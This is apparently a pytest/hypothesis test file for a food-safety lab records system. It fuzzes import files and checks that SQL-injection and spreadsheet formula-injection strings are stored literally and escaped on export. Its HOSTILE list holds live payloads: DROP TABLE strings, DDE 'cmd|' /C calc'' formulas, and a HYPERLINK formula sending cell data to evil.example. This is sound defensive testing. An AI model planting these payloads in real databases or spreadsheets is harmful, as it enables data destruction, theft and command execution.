"""Hostile input: fuzzed import files and reference data, injection through names and cells.

Every bad input must end in a LimsError/ValueError whose message names the field and the place
(file and line), and nothing may have been written.
"""

from __future__ import annotations

import csv
import io
import shutil
from datetime import datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlmodel import Session, select

from lims.errors import LimsError, NotFound, ValidationFailed
from lims.files.results_export import export_results, sample_results
from lims.files.results_import import import_results
from lims.intake.pipeline import ReadingIn, accept_readings
from lims.models import Commodity, Market, Sample, TestResult, Threshold, Vendor
from lims.models.enums import Role
from lims.reference.loader import REFDATA, load_reference_data
from lims.security.auth import SYSTEM, Actor
from tests.conftest import TZ

TECH = Actor("tech1", Role.LAB_TECHNICIAN)
FUZZ = settings(max_examples=40, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])
HEADER = ["market", "vendor_stall", "commodity", "method", "tested_at", "control_delta",
          "sample_delta"]
GOOD = {"market": "M1", "vendor_stall": "A01", "commodity": "小白菜", "method": "ENZ-5009.199",
        "tested_at": "2026-05-06 09:30", "control_delta": "0.35", "sample_delta": "0.12"}
BAD = {
    "market": st.sampled_from(["M404", "'; DROP TABLE market; --", "市场X"]),
    "commodity": st.sampled_from(["dragonfruit", "Robert'); DROP TABLE commodity;--", "菜?"]),
    "method": st.sampled_from(["NOPE", "ENZ-5009.199' OR '1'='1", ""]),
    "tested_at": st.sampled_from(["yesterday", "2026-13-45 10:00", "", "2099-01-01 00:00"]),
    "control_delta": st.sampled_from(["abc", "1,5", "nan", "inf", ""]),
    "sample_delta": st.sampled_from(["x", "--1", "1e999", ""]),
}


def _counts(session: Session) -> tuple[int, int]:
    return (session.exec(select(sa.func.count()).select_from(TestResult)).one(),
            session.exec(select(sa.func.count()).select_from(Sample)).one())


@pytest.fixture
def world(sqlite_engine):
    with Session(sqlite_engine) as s:
        m = Market(code="M1", name="城东农贸市场", county="城关区", kind="farmers")
        s.add(m)
        s.flush()
        s.add(Vendor(market_id=m.id, stall="A01", name="张三"))
        s.commit()
    return sqlite_engine


@st.composite
def rows(draw):
    """1–5 rows; each field is good, or bad with some probability. Returns (rows, bad cells)."""
    out, bad = [], set()
    for i in range(draw(st.integers(1, 5))):
        row = dict(GOOD)
        for field, strategy in BAD.items():
            if draw(st.integers(0, 9)) == 0:
                row[field] = draw(strategy)
                bad.add((i + 2, field))
        out.append(row)
    return out, bad


def _write_csv(path: Path, data: list[dict]) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=HEADER)
        w.writeheader()
        w.writerows(data)


@FUZZ
@given(case=rows())
def test_import_is_all_or_nothing_and_names_line_and_field(world, tmp_path_factory, case):
    data, bad = case
    path = tmp_path_factory.mktemp("imp") / "field-sheet.csv"
    _write_csv(path, data)
    with Session(world) as s:
        before = _counts(s)
        try:
            report = import_results(session=s, actor=TECH, path=path)
        except ValidationFailed as exc:
            assert bad, f"a good file was refused: {exc}"
            assert str(exc).startswith("field-sheet.csv") or "readings" in str(exc)
            named = {(e.row, e.field) for e in exc.errors}
            # every problem names a data line of the file and a column
            assert all(isinstance(r, int) and 2 <= r <= len(data) + 1 for r, _ in named)
            assert {f for _, f in named} <= set(HEADER) | {"vendor_stall", "raw"}
            # and the first bad cell of each bad line is among them
            assert {r for r, _ in bad} & {r for r, _ in named}
            assert _counts(s) == before  # nothing written, not even flushed
        else:
            assert not bad, f"bad cells {bad} were accepted"
            assert report.created + report.duplicates == len(data)
            assert _counts(s)[0] == before[0] + report.created
        finally:
            s.rollback()


@FUZZ
@given(blob=st.binary(max_size=600), ext=st.sampled_from([".csv", ".xlsx"]))
def test_random_bytes_are_refused_with_a_message_naming_the_file(world, tmp_path_factory,
                                                                  blob, ext):
    path = tmp_path_factory.mktemp("junk") / f"upload{ext}"
    path.write_bytes(blob)
    with Session(world) as s:
        before = _counts(s)
        with pytest.raises(LimsError) as exc:
            import_results(session=s, actor=TECH, path=path)
        assert "upload" in str(exc.value)
        assert _counts(s) == before
        s.rollback()


# ---- reference data files -------------------------------------------------------------------

THRESHOLD_BAD = st.sampled_from([
    ("value", "abc"), ("value", "-1"), ("value", ""), ("analyte", "unobtainium"),
    ("commodity", "dragonfruit"), ("effective_from", "2021-02-30"), ("effective_from", "soon"),
    ("confirmed", "maybe"),
])


@FUZZ
@given(bad=THRESHOLD_BAD, where=st.integers(0, 5))
def test_bad_threshold_file_names_file_line_and_field_and_writes_nothing(
        sqlite_engine, tmp_path_factory, bad, where):
    field, value = bad
    d = tmp_path_factory.mktemp("ref")
    for f in REFDATA.iterdir():
        if f.is_file():
            shutil.copy(f, d / f.name)
    # a new commodity row that a partial load would leave behind
    with (d / "commodities.csv").open("a", encoding="utf-8") as fh:
        fh.write("测试菜,fuzz vegetable,leafy vegetables,false\n")
    lines = (d / "thresholds.csv").read_text(encoding="utf-8").splitlines()
    header = next(csv.reader([lines[0]]))
    target = 1 + where % (len(lines) - 1)
    cells = next(csv.reader([lines[target]]))
    cells[header.index(field)] = value
    buf = io.StringIO()
    csv.writer(buf).writerow(cells)
    lines[target] = buf.getvalue().rstrip("\r\n")
    (d / "thresholds.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with Session(sqlite_engine) as s:
        n_thresholds = s.exec(select(sa.func.count()).select_from(Threshold)).one()
        with pytest.raises(ValueError) as exc:
            load_reference_data(session=s, directory=d)
        s.rollback()
        assert f"thresholds.csv line {target + 1}" in str(exc.value)
        assert s.exec(select(Commodity).where(Commodity.name_zh == "测试菜")).first() is None
        assert s.exec(select(sa.func.count()).select_from(Threshold)).one() == n_thresholds


def test_reference_file_with_a_missing_column_is_named(sqlite_engine, tmp_path):
    for f in REFDATA.iterdir():
        if f.is_file():
            shutil.copy(f, tmp_path / f.name)
    (tmp_path / "analytes.csv").write_text("name_zh,name_en\n新药,newcide\n", encoding="utf-8")
    with Session(sqlite_engine) as s, pytest.raises(
            ValueError, match="analytes.csv line 1: missing column.*pesticide_class"):
        load_reference_data(session=s, directory=tmp_path)
    (tmp_path / "analytes.csv").write_text(
        "name_zh,name_en,pesticide_class,enzyme_blind_spot\n新药,newcide\n", encoding="utf-8")
    with Session(sqlite_engine) as s, pytest.raises(ValueError, match="analytes.csv line 2"):
        load_reference_data(session=s, directory=tmp_path)


# ---- injection through names ----------------------------------------------------------------

HOSTILE = [
    "'; DROP TABLE test_result; --",
    "Robert'); DELETE FROM market WHERE ('1'='1",
    '" OR 1=1 --',
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "市场'); DROP TABLE sample;--",
]


@pytest.fixture
def hostile_world(session):
    for i, name in enumerate(HOSTILE):
        m = Market(code=f"H{i}", name=name, county=name, kind="farmers")
        session.add(m)
        session.flush()
        session.add(Vendor(market_id=m.id, stall=f"S{i}", name=name))
    session.commit()
    readings = [ReadingIn(method="ENZ-5009.199", raw={"control_delta": 0.35, "sample_delta": 0.3},
                          tested_at=datetime(2026, 5, 6, 9, i, tzinfo=TZ), market=name,
                          vendor_stall=f"S{i}", commodity="小白菜", tested_by=name)
                for i, name in enumerate(HOSTILE)]
    accept_readings(session=session, actor=SYSTEM, readings=readings)
    session.commit()
    return session


def test_sql_injection_strings_are_stored_and_found_literally(hostile_world):
    s = hostile_world
    for i, name in enumerate(HOSTILE):
        m = s.exec(select(Market).where(Market.name == name)).one()
        assert m.code == f"H{i}" and m.county == name
        assert s.exec(select(Vendor).where(Vendor.name == name)).one().market_id == m.id
        tr = s.exec(select(TestResult).where(TestResult.market_id == m.id)).one()
        assert tr.tested_by == name
    # every table is still there and whole
    assert len(s.exec(select(TestResult)).all()) == len(HOSTILE)
    assert len(s.exec(select(Market)).all()) == len(HOSTILE)
    with pytest.raises(ValidationFailed) as exc:
        accept_readings(session=s, actor=SYSTEM, readings=[ReadingIn(
            method="ENZ-5009.199", raw={"control_delta": 0.3, "sample_delta": 0.1},
            tested_at=datetime(2026, 5, 6, 10, 0, tzinfo=TZ),
            market="x' OR '1'='1", commodity="小白菜' OR '1'='1")])
    assert "x' OR '1'='1" in str(exc.value) and "market" in str(exc.value)
    with pytest.raises((NotFound, ValueError, LimsError)):
        sample_results(session=s, actor=TECH, code="' OR '1'='1")


def test_exported_cells_cannot_run_as_formulas(hostile_world, tmp_path):
    s = hostile_world
    buf = io.BytesIO()
    export_results(session=s, actor=TECH, out=buf, fmt="csv")
    text = buf.getvalue().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    for name in HOSTILE:
        expected = "'" + name if name[:1] in "=+-@\t\r" else name
        assert expected in cells
    xbuf = io.BytesIO()
    export_results(session=s, actor=TECH, out=xbuf, fmt="xlsx")
    xbuf.seek(0)
    wb = load_workbook(xbuf)
    values = [c.value for row in wb.active.iter_rows() for c in row]
    assert not [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t")]
    for row in wb.active.iter_rows():
        for c in row:
            assert c.data_type != "f", f"cell {c.coordinate} is a formula: {c.value!r}"
    # and the escaped export imports back to the same names (nothing doubled)
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    report = import_results(session=s, actor=TECH, path=path)
    assert report.created == 0 and report.duplicates == len(HOSTILE)
